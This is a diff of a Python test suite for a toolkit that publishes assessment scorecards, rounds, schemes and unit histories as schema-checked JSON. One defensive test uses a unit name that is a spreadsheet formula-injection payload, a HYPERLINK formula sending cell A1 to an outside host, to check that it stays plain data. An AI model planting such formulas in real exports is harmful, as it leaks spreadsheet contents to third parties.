@@ -9,10 +9,12 @@ from typing import Any
 import jsonschema
 import pytest
 
+from tests.codes.tree import TINY
+from tests.publishing.conftest import Assessed, results_in
 from toolkit.publishing.objects import round_object, scheme_object, scorecard_object
 from toolkit.publishing.publish import publish
-from toolkit.scoring.rounds import ScoredRound
 from toolkit.submissions.repository import Repository
+from toolkit.submissions.walk import open_repository
 
 PROMISED = {  # architecture, section 7
     *{"unit", "scheme", "edition", "year", "state", "indicators", "claimed_total", "base"},
@@ -25,10 +27,10 @@ PROMISED_OF_INDICATORS = {
 SCORES = ("claimed_value", "claimed_score", "verified_value", "verified_score")
 
 
-def cards(scored: ScoredRound) -> dict[str, dict[str, Any]]:
+def cards(scored: Assessed) -> dict[str, dict[str, Any]]:
     return {
         card["unit"].removeprefix("keqiao-demo-"): card
-        for card in round_object(scored)["scorecards"]
+        for card in round_object(*scored)["scorecards"]
     }
 
 
@@ -44,9 +46,13 @@ def leaves(value: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, 
         yield path, value
 
 
-def test_the_head_of_a_round(demo_round: ScoredRound) -> None:
-    head = {key: each for key, each in round_object(demo_round).items() if key != "scorecards"}
+def test_the_head_of_a_round(demo_round: Assessed) -> None:
+    head = {key: each for key, each in round_object(*demo_round).items() if key != "scorecards"}
     assert head.pop("toolkit")
+    assert [step["state"] for step in head.pop("steps")] == ["checked", "reviewed", "final"]
+    assert [each["kind"] for each in head.pop("decisions")] == ["set-aside"]
+    assert "KQC-SENIOR" in {each["reading"] for each in head.pop("readings")}
+    assert head.pop("fragile") == {}  # no grades, ranks or money to change
     assert head == {
         "api": "v1",
         "scheme": "keqiao-contact-point",
@@ -56,15 +62,18 @@ def test_the_head_of_a_round(demo_round: ScoredRound) -> None:
             "zh": "2018 年柯桥区学会服务联系点绩效考核",
             "en": "Keqiao contact points, assessment of 2018",
         },
-        "state": "checked",
+        "state": "reviewed",
         "window": ["2018-01-01", "2018-11-25"],
         "deadline": "2018-11-25",
         "points": "100",
         "demo": True,
+        "grades": None,
+        "quota": None,
+        "notice": None,
     }
 
 
-def test_every_scorecard_has_what_is_promised(demo_round: ScoredRound) -> None:
+def test_every_scorecard_has_what_is_promised(demo_round: Assessed) -> None:
     found = cards(demo_round)
     assert list(found) == ["loom", "dyeing", "garden", "digital", "food", "craft"]
     for card in found.values():
@@ -74,7 +83,7 @@ def test_every_scorecard_has_what_is_promised(demo_round: ScoredRound) -> None:
             assert indicator.keys() >= PROMISED_OF_INDICATORS
 
 
-def test_a_reviewed_scorecard(demo_round: ScoredRound) -> None:
+def test_a_reviewed_scorecard(demo_round: Assessed) -> None:
     food = cards(demo_round)["food"]
     totals = {key: food[key] for key in ("claimed_total", "base", "total", "deduction")}
     assert totals == {
@@ -104,7 +113,7 @@ def test_a_reviewed_scorecard(demo_round: ScoredRound) -> None:
     assert review["date"] == "2018-12-05"
 
 
-def test_an_indicator_with_its_records(demo_round: ScoredRound) -> None:
+def test_an_indicator_with_its_records(demo_round: Assessed) -> None:
     exchanges = cards(demo_round)["food"]["indicators"][4]
     assert exchanges["points"] == "10"
     assert exchanges["asked"] == {"zh": "2 次", "en": "2 events"}
@@ -123,7 +132,7 @@ def test_an_indicator_with_its_records(demo_round: ScoredRound) -> None:
     assert dropped["line"] == fact["line"] + 2
 
 
-def test_no_score_is_null_and_null_is_never_zero(demo_round: ScoredRound) -> None:
+def test_no_score_is_null_and_null_is_never_zero(demo_round: Assessed) -> None:
     found = cards(demo_round)
     garden, craft = found["garden"], found["craft"]
     totals = ("claimed_total", "base", "total", "deduction")
@@ -146,12 +155,12 @@ def test_no_score_is_null_and_null_is_never_zero(demo_round: ScoredRound) -> Non
     assert places == {(None, None)}
 
 
-def test_what_this_policy_does_not_have_is_null(demo_round: ScoredRound) -> None:
+def test_what_this_policy_does_not_have_is_null(demo_round: Assessed) -> None:
     for card in cards(demo_round).values():
         assert (card["rank"], card["grade"], card["consequences"]) == (None, None, [])
 
 
-def test_published_parts_add_up_to_the_published_total(demo_round: ScoredRound) -> None:
+def test_published_parts_add_up_to_the_published_total(demo_round: Assessed) -> None:
     for card in cards(demo_round).values():
         for key, total in (("claimed_score", "claimed_total"), ("verified_score", "total")):
             scores = [each[key] for each in card["indicators"]]
@@ -161,15 +170,16 @@ def test_published_parts_add_up_to_the_published_total(demo_round: ScoredRound) 
                 assert sum(map(Decimal, scores)) == Decimal(card[total])
 
 
-def test_numbers_are_strings_and_only_lines_are_counted(demo_round: ScoredRound) -> None:
-    kinds = {(path[-1], type(value)) for path, value in leaves(round_object(demo_round))}
+def test_numbers_are_strings_and_only_lines_are_counted(demo_round: Assessed) -> None:
+    kinds = {(path[-1], type(value)) for path, value in leaves(round_object(*demo_round))}
     assert {key for key, kind in kinds if kind in (int, float)} == {"line"}
     assert {kind for _, kind in kinds} == {str, int, bool, type(None)}
 
 
-def test_one_scorecard_is_the_same_as_in_its_round(demo_round: ScoredRound) -> None:
-    inside = round_object(demo_round)["scorecards"]
-    assert [scorecard_object(card) for card in demo_round.scorecards] == inside
+def test_one_scorecard_is_the_same_as_in_its_round(demo_round: Assessed) -> None:
+    inside = round_object(*demo_round)["scorecards"]
+    outcome = demo_round[0]
+    assert [scorecard_object(outcome, card) for card in outcome.scored.scorecards] == inside
 
 
 def test_the_scheme_as_data(demo: Repository) -> None:
@@ -202,15 +212,13 @@ def constants(formula: dict[str, Any], name: str) -> Iterator[dict[str, Any]]:
 
 
 @pytest.fixture(scope="module")
-def published(
-    demo: Repository, demo_round: ScoredRound, tmp_path_factory: pytest.TempPathFactory
-) -> Path:
+def published(demo: Repository, tmp_path_factory: pytest.TempPathFactory) -> Path:
     target = tmp_path_factory.mktemp("site")
-    publish(target, [demo_round], demo.editions.values())
+    publish(target, results_in(demo), demo)
     return target / "api/v1"
 
 
-def test_what_is_published(published: Path, demo_round: ScoredRound) -> None:
+def test_what_is_published(published: Path, demo_round: Assessed) -> None:
     files = {path.relative_to(published).as_posix() for path in published.rglob("*.json")}
     assert {
         "index.json",
@@ -219,7 +227,7 @@ def test_what_is_published(published: Path, demo_round: ScoredRound) -> None:
         "schema/round.schema.json",
     } <= files
     body = json.loads((published / "results/keqiao-contact-point/2018.json").read_text("utf-8"))
-    assert body == round_object(demo_round)
+    assert body == round_object(*demo_round)
     [entry] = json.loads((published / "index.json").read_text("utf-8"))["rounds"]
     for kind in ("json", "csv"):
         assert (published / entry[kind]).is_file()
@@ -230,6 +238,7 @@ def test_what_is_published(published: Path, demo_round: ScoredRound) -> None:
     [
         ("results/keqiao-contact-point/2018.json", "round"),
         ("schemes/keqiao-contact-point/2018.json", "scheme"),
+        ("units/keqiao-demo-loom.json", "unit"),
         ("index.json", "index"),
     ],
 )
@@ -240,22 +249,103 @@ def test_what_is_published_is_what_its_schema_says(published: Path, file: str, s
     body = json.loads((published / file).read_text("utf-8"))
     assert list(validator.iter_errors(body)) == []
     assert not validator.is_valid({**body, "extra": 1})
-    assert not validator.is_valid({key: each for key, each in body.items() if key != "api"})
+    first = next(iter(body))
+    assert not validator.is_valid({key: each for key, each in body.items() if key != first})
 
 
 @pytest.mark.parametrize("wrong", [62.38, 62, "", "-", "1e3", "62,38"])
 def test_the_schema_refuses_a_number_that_is_no_string_of_digits(
-    published: Path, demo_round: ScoredRound, wrong: object
+    published: Path, demo_round: Assessed, wrong: object
 ) -> None:
     schema = json.loads((published / "schema/round.schema.json").read_text("utf-8"))
     validator = jsonschema.Draft202012Validator(schema)
-    body = round_object(demo_round)
+    body = round_object(*demo_round)
     assert validator.is_valid(body)
     body["scorecards"][0]["total"] = wrong
     assert not validator.is_valid(body)
 
 
-def test_dangerous_names_are_data_in_json(hostile_round: ScoredRound) -> None:
+def test_dangerous_names_are_data_in_json(hostile_round: Assessed) -> None:
     food = cards(hostile_round)["food"]
     assert food["name"]["en"] == '=HYPERLINK("http://x.org?"&A1,"go, on")'
     assert food["demo"] is False
+
+
+@pytest.fixture(scope="module")
+def prizes(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The tiny organisation: one scheme has grades, money, decisions and an end of status."""
+    target = tmp_path_factory.mktemp("prizes")
+    tiny = open_repository(TINY, "data")
+    publish(target, results_in(tiny), tiny)
+    return target / "api/v1"
+
+
+@pytest.mark.parametrize(
+    ("pattern", "schema"),
+    [("results/*/*.json", "round"), ("schemes/*/*.json", "scheme"), ("units/*.json", "unit")],
+)
+def test_outcomes_keep_their_schema(prizes: Path, pattern: str, schema: str) -> None:
+    said = json.loads((prizes / f"schema/{schema}.schema.json").read_text("utf-8"))
+    validator = jsonschema.Draft202012Validator(said)
+    files = sorted(prizes.glob(pattern))
+    assert files
+    for file in files:
+        body = json.loads(file.read_text("utf-8"))
+        assert [error.message for error in validator.iter_errors(body)] == [], file
+
+
+def test_a_round_with_a_tie_money_and_endings(prizes: Path) -> None:
+    body = json.loads((prizes / "results/tiny-prize/2020.json").read_text("utf-8"))
+    assert body["grades"] == {"good": "1", "fair": "3", "poor": "1"}
+    assert body["quota"] == {
+        "grade": "good",
+        "percent": "25",
+        "base": "5",
+        "exactly": "1.25",
+        "allowed": "1",
+        "given": ["tiny-alpha"],
+        "tied": ["tiny-alpha", "tiny-beta"],
+        "open": False,
+    }
+    by_unit = {card["unit"].removeprefix("tiny-"): card for card in body["scorecards"]}
+    told = {unit: (card["total"], card["rank"], card["grade"]) for unit, card in by_unit.items()}
+    assert told == {
+        "alpha": ("90.00", "1", "good"),
+        "beta": ("90.00", "1", "fair"),
+        "gamma": ("30.00", None, "poor"),
+        "zeta": ("80.00", "3", "fair"),
+        "theta": ("75.00", "4", "fair"),
+    }
+    follows = {
+        unit: [(each["id"], each["amount"], each["decision"]) for each in card["consequences"]]
+        for unit, card in by_unit.items()
+    }
+    assert follows == {
+        "alpha": [("subsidy", "4", None), ("cup", "3", "d4")],
+        "beta": [("subsidy", "2.5", None), ("praise", None, "d9")],
+        "gamma": [
+            ("notice", None, None),
+            ("mending", None, "d3"),
+            ("two-poor", None, None),
+            ("closure", None, "d6"),
+            ("veto", None, "d8"),
+        ],
+        "zeta": [
+            ("cheating", None, "d5"),
+            ("closure", None, None),
+            ("closure-claw-back", "10", None),
+        ],
+        "theta": [("subsidy", "5", None), ("praise", None, "d10")],
+    }
+
+
+def test_the_years_of_a_unit(prizes: Path) -> None:
+    body = json.loads((prizes / "units/tiny-gamma.json").read_text("utf-8"))
+    years = [
+        (each["scheme"], each["round"], each["total"], each["grade"]) for each in body["years"]
+    ]
+    assert years == [
+        ("tiny-prize", "2019", "40.00", "poor"),
+        ("tiny-prize", "2020", "30.00", "poor"),
+        ("tiny-society", "2020", None, None),
+    ]
